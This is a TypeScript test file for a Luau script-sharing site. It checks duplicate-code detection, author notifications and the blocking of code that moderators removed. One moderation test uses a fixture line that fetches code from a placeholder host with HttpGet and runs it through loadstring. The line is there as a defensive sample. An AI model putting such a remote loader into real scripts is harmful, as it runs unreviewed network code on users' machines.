import { createHash } from 'node:crypto'
import { SandboxError } from '@scriptyard/luau-behavior/sandbox'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { OwnCase } from '#contract/reports.ts'
import type { Script } from '#contract/scripts.ts'
import type { ResultOf } from '#contract/operations.ts'
import { Rescan } from '#server/features/behavior/rescan.ts'
import { reportIdenticalCode } from '#server/features/releases/identical.ts'
import { createTestApp, type TestApp } from '#tests/support/app.ts'
import { fakeSandboxes } from '#tests/support/fake-sandboxes.ts'
import { makeMember, makeScript, signIn } from '#tests/support/factories.ts'
import {
  minimalScript,
  publish,
  sendChange,
  sendDelete,
  sendRestore,
  sendScript,
  type SignedIn,
} from '#tests/support/scripts.ts'
import { hashForComparison, isWithdrawnCode } from './withdrawn.ts'

const SOON = { timeout: 20_000, interval: 50 }

let site: TestApp
let moderator: SignedIn
let otherModerator: SignedIn
let admin: SignedIn
beforeAll(async () => {
  site = await createTestApp({}, { runsJobs: true, sandboxes: fakeSandboxes })
  moderator = await signIn(site.db, await makeMember(site.db, { is_moderator: true }))
  otherModerator = await signIn(site.db, await makeMember(site.db, { is_moderator: true }))
  admin = await signIn(site.db, await makeMember(site.db, { is_admin: true }))
})
afterAll(() => site.close())

let serial = 0

/** Code that no other test has, in a second layout with other names of locals, and with another number. */
function makeCode(): { code: string; renamed: string; changed: string } {
  const name = `Pool${++serial}`
  const lines = Array.from({ length: 12 }, (_, index) => `print(part.Name, "${name}", ${index})`)
  const code = `local part = workspace.${name}\n${lines.join('\n')}\n`
  const renamed = `-- by me\n${code.replaceAll('part', 'x').replaceAll(', ', ',')}`
  return { code, renamed, changed: code.replace('11)', '99)') }
}

async function join(): Promise<{ id: number; headers: SignedIn }> {
  const id = await makeMember(site.db)
  return { id, headers: await signIn(site.db, id) }
}

const send = (headers: SignedIn, method: 'POST' | 'PUT', url: string, payload: object) =>
  site.app.inject({ method, url, headers, payload })

const check = async (headers: SignedIn, script_content: string) =>
  (await send(headers, 'POST', '/api/script-check', { script_content })).json<ResultOf<'POST /api/script-check'>>()
    .duplicate_of

const readScript = async (id: number, headers: SignedIn | Record<string, never> = {}) =>
  (await site.app.inject({ url: `/api/script-details-slug?slug=x-${id}`, headers })).json<{ script: Script }>().script

const hasHash = async (code: string) =>
  (
    await site.pool.query('select from code_hashes h join script_versions v using (sha256) where v.content = $1', [
      code,
    ])
  ).rowCount !== 0
async function waitForHash(code: string): Promise<void> {
  await expect.poll(() => hasHash(code), SOON).toBe(true)
}

const countPending = async () => (await site.pool.query("select from behavior_cards where status = 'pending'")).rowCount
async function waitForJobs(): Promise<void> {
  await expect.poll(countPending, SOON).toBe(0)
}

const notices = async (memberId: number) =>
  (
    await site.pool.query<{ message: string; link: string }>(
      `select message, link from notifications where member_id = $1 and title = 'Another member published your code'`,
      [memberId],
    )
  ).rows

describe('a copy of a public script', () => {
  test('is found before and after publishing, and notifies the author of the original once', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed, changed } = makeCode()
    const original = await publish(site, author.headers, { title: 'Spring', script_content: code })
    await waitForHash(code)
    const found = { slug: `spring-${original}`, title: 'Spring' }
    expect(await check(other.headers, code)).toMatchObject({ slug: found.slug, title: found.title, exact: true })
    expect(await check(other.headers, renamed)).toMatchObject({ slug: found.slug, exact: false })
    expect(await check(other.headers, changed)).toBeNull()
    expect(await check(author.headers, renamed)).toBeNull()

    const copy = await publish(site, other.headers, { title: 'Copied', script_content: renamed })
    await expect.poll(async () => (await readScript(copy)).duplicate_of, SOON).toMatchObject({ slug: found.slug })
    expect((await readScript(original)).duplicate_of).toBeNull()
    await expect.poll(() => notices(author.id), SOON).toHaveLength(1)
    expect((await notices(author.id))[0]?.message).toContain('“Copied”')
    await sendChange(site, other.headers, copy, { script_content: code })
    expect((await readScript(copy)).duplicate_of).toMatchObject({ exact: true })
    await waitForJobs()
    expect(await notices(author.id)).toHaveLength(1)
    expect(await notices(other.id)).toEqual([])
  })

  test('opens a case if it is exact and not tiny, once per version', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed } = makeCode()
    const tiny = `return "tiny ${++serial}"`
    for (const script_content of [code, tiny]) await publish(site, author.headers, { title: 'Spring', script_content })
    await waitForHash(code)
    const ids = [code, renamed, tiny].map((script_content) => publish(site, other.headers, { script_content }))
    const [exact] = await Promise.all(ids)
    await publish(site, author.headers, { script_content: code })
    const cases = async () =>
      (
        await site.pool.query<{ id: number; count: number; detail: string }>(
          `select subject_id as id, found_count as count, findings -> 0 ->> 'detail' as detail from report_cases
            where reason = 'identical_code' and author_id in ($1, $2)`,
          [author.id, other.id],
        )
      ).rows
    await expect.poll(async () => (await cases()).length, SOON).toBe(1)
    await waitForJobs()
    await reportIdenticalCode(site.db, createHash('sha256').update(code).digest('hex'))
    expect(await cases()).toEqual([{ id: exact, count: 1, detail: expect.stringMatching(/^The code of “Spring” by /) }])
  })

  test('by the same author is no copy', async () => {
    const author = await join()
    const { code } = makeCode()
    await publish(site, author.headers, { script_content: code })
    const second = await publish(site, author.headers, { script_content: code })
    expect((await readScript(second)).duplicate_of).toBeNull()
  })

  test('is one after an edit, and no longer after the original is deleted', async () => {
    const [author, other] = [await join(), await join()]
    const { code } = makeCode()
    const original = await publish(site, author.headers, { script_content: code })
    const copy = await publish(site, other.headers, { script_content: 'return 0' })
    const answer = await sendChange(site, other.headers, copy, { script_content: code })
    expect(answer.json<{ script: Script }>().script.duplicate_of).toMatchObject({ exact: true })
    await sendDelete(site, author.headers, original)
    expect((await readScript(copy)).duplicate_of).toBeNull()
    expect(await check((await join()).headers, code)).toMatchObject({ slug: `a-script-${copy}` })
  })

  test('of a tiny script is found by its bytes only', async () => {
    const [author, other] = [await join(), await join()]
    const code = `local tiny = ${++serial} return tiny`
    await publish(site, author.headers, { script_content: code })
    await waitForHash(code)
    expect(await check(other.headers, code)).toMatchObject({ exact: true })
    expect(await check(other.headers, code.replaceAll('tiny', 'x'))).toBeNull()
  })
})

test('private and hidden originals are not revealed', async () => {
  const [author, other] = [await join(), await join()]
  const { code, renamed } = makeCode()
  const original = await publish(site, author.headers, { script_content: code, is_public: false })
  await waitForHash(code)
  expect([await check(other.headers, code), await check(other.headers, renamed)]).toEqual([null, null])
  const copy = await publish(site, other.headers, { script_content: renamed })
  await waitForHash(renamed)
  await waitForJobs()
  expect((await readScript(copy)).duplicate_of).toBeNull()
  expect(await notices(author.id)).toEqual([])
  await sendChange(site, author.headers, original, { is_public: true })
  expect((await readScript(copy)).duplicate_of).toMatchObject({ exact: false })
  await hide(original)
  expect((await readScript(copy)).duplicate_of).toBeNull()
})

const hide = async (id: number) => {
  const body = { action: 'hide', subject_type: 'script', subject_id: id, reason: 'Steals accounts.' }
  expect((await send(moderator, 'POST', '/api/moderation', body)).statusCode).toBe(200)
}

const conflict = { statusCode: 409, code: 'withdrawn_code' }
const outcome = (response: Awaited<ReturnType<typeof sendScript>>) => ({
  statusCode: response.statusCode,
  code: response.json<{ code?: string }>().code,
})
const accepted = expect.objectContaining({ code: undefined })

describe('code that moderators removed', () => {
  test('cannot be published again after its script was hidden', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed, changed } = makeCode()
    const removed = await publish(site, author.headers, { script_content: code })
    const own = await publish(site, other.headers, { script_content: 'return 0' })
    await waitForHash(code)
    await hide(removed)
    for (const script_content of [code, renamed]) {
      expect(outcome(await sendScript(site, other.headers, { ...minimalScript, script_content }))).toEqual(conflict)
      expect(outcome(await sendChange(site, other.headers, own, { script_content }))).toEqual(conflict)
      const version = await send(other.headers, 'PUT', `/api/script-versions?id=${own}`, { script_content })
      expect(outcome(version)).toEqual(conflict)
    }
    expect(outcome(await sendScript(site, other.headers, { ...minimalScript, script_content: changed }))).toEqual(
      accepted,
    )
  })

  test('cannot be restored, and a private copy cannot become public', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed, changed } = makeCode()
    const removed = await publish(site, author.headers, { script_content: code })
    await waitForHash(code)
    const secret = await publish(site, other.headers, { script_content: renamed, is_public: false })
    const former = await publish(site, other.headers, { script_content: code })
    await sendChange(site, other.headers, former, { script_content: changed })
    await hide(removed)
    expect(outcome(await sendRestore(site, other.headers, { script_id: former, number: 1 }))).toEqual(conflict)
    expect(outcome(await sendChange(site, other.headers, secret, { is_public: true }))).toEqual(conflict)
    expect(outcome(await sendChange(site, other.headers, secret, { description: 'Other.' }))).toEqual(accepted)
    // The author can still correct the details of the hidden script.
    expect(
      outcome(await sendChange(site, author.headers, removed, { ...minimalScript, script_content: code })),
    ).toEqual(accepted)
  })

  test('is recognized in either hash, also if the tokens are hashed after the decision', async () => {
    const { code, renamed } = makeCode()
    const removed = await makeScript(site.db, { content: code })
    await hide(removed)
    await new Rescan(site.db, site.jobs).run()
    await waitForHash(code)
    const other = await join()
    expect(outcome(await sendScript(site, other.headers, { ...minimalScript, script_content: renamed }))).toEqual(
      conflict,
    )
  })

  test('may be published again after a granted appeal', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed } = makeCode()
    const removed = await publish(site, author.headers, { script_content: code })
    await waitForHash(code)
    await hide(removed)
    await sendDelete(site, author.headers, removed)
    const { cases } = (await site.app.inject({ url: '/api/own-cases', headers: author.headers })).json<{
      cases: OwnCase[]
    }>()
    await send(author.headers, 'POST', '/api/appeals', { case_id: cases[0]?.id, text: 'It is harmless.' })
    expect(outcome(await sendScript(site, author.headers, { ...minimalScript, script_content: code }))).toEqual(
      conflict,
    )
    const granted = { id: cases[0]?.id, action: 'grant', decision: 'It is.' }
    expect((await send(otherModerator, 'PUT', '/api/reports', granted)).statusCode).toBe(200)
    for (const script_content of [code, renamed]) {
      expect(outcome(await sendScript(site, other.headers, { ...minimalScript, script_content }))).toEqual(accepted)
    }
  })

  test('is compared by its bytes if the process that hashes tokens breaks', async () => {
    const [author, other] = [await join(), await join()]
    const { code, changed } = makeCode()
    const removed = await publish(site, author.headers, { script_content: code })
    await waitForHash(code)
    await hide(removed)
    const id = await makeScript(site.db, { content: changed, author_id: other.id })
    const breaks = () => Promise.reject(new SandboxError('The process broke.'))
    const isRejected = async (scriptId: number) => {
      const versions = site.db.selectFrom('script_versions').select('sha256').where('script_id', '=', scriptId)
      const { sha256 } = await versions.executeTakeFirstOrThrow()
      await hashForComparison(site.db, { sha256 }, breaks)
      return isWithdrawnCode(site.db, id, sha256)
    }
    expect([await isRejected(id), await isRejected(removed)]).toEqual([false, true])
  })

  test('that is tiny stays allowed, unless it does something serious', async () => {
    const [author, other] = [await join(), await join()]
    const harmless = `print("tiny ${++serial}")`
    const loader = `loadstring(game:HttpGet("https://x.example/${++serial}"))()`
    for (const script_content of [harmless, loader]) {
      const id = await publish(site, author.headers, {
        script_content,
        declared_capabilities: ['net.get', 'code.remote'],
      })
      await hide(id)
    }
    const body = { ...minimalScript, declared_capabilities: ['net.get', 'code.remote'] }
    const publishCopy = (script_content: string) => sendScript(site, other.headers, { ...body, script_content })
    expect(outcome(await publishCopy(harmless))).toEqual(accepted)
    expect(outcome(await publishCopy(loader))).toEqual(conflict)
  })

  test('a deletion removes no code, and neither does hiding a copy', async () => {
    const [author, other] = [await join(), await join()]
    const { code, renamed } = makeCode()
    const original = await publish(site, author.headers, { script_content: code })
    const copy = await publish(site, other.headers, { script_content: renamed })
    await waitForHash(renamed)
    await hide(copy)
    expect(outcome(await sendScript(site, author.headers, { ...minimalScript, script_content: renamed }))).toEqual(
      accepted,
    )
    await sendDelete(site, author.headers, original)
    const again = await sendScript(site, author.headers, { ...minimalScript, script_content: code })
    expect(outcome(again)).toEqual(accepted)
    const { id } = again.json<{ script: { id: number } }>().script
    await send(admin, 'POST', '/api/admin-keys', { action: 'script_delete', script_id: id })
    expect(outcome(await sendScript(site, author.headers, { ...minimalScript, script_content: code }))).toEqual(
      accepted,
    )
  })

  test('a repeated publish request still answers with the script that it published', async () => {
    const author = await join()
    const { code } = makeCode()
    const body = { ...minimalScript, script_content: code }
    const first = await sendScript(site, author.headers, body, 'one')
    await hide(first.json<{ script: { id: number } }>().script.id)
    const repeated = await sendScript(site, author.headers, body, 'one')
    expect(repeated.json()).toEqual(first.json())
    expect(outcome(await sendScript(site, author.headers, body, 'two'))).toEqual(conflict)
  })

  test('the hash of a private script that an admin hides rejects nobody', async () => {
    const author = await join()
    const { code } = makeCode()
    const secret = await publish(site, author.headers, { script_content: code, is_public: false })
    const body = { action: 'hide', subject_type: 'script', subject_id: secret, reason: 'Private.' }
    expect((await send(admin, 'POST', '/api/moderation', body)).statusCode).toBe(200)
    const other = await join()
    expect(outcome(await sendScript(site, other.headers, { ...minimalScript, script_content: code }))).toEqual(accepted)
  })
})

test('the background scan hashes code that was published before', async () => {
  const { code, renamed } = makeCode()
  const original = await makeScript(site.db, { content: code })
  await new Rescan(site.db, site.jobs).run()
  await waitForHash(code)
  expect(await check((await join()).headers, renamed)).toMatchObject({ slug: `a-script-${original}` })
})
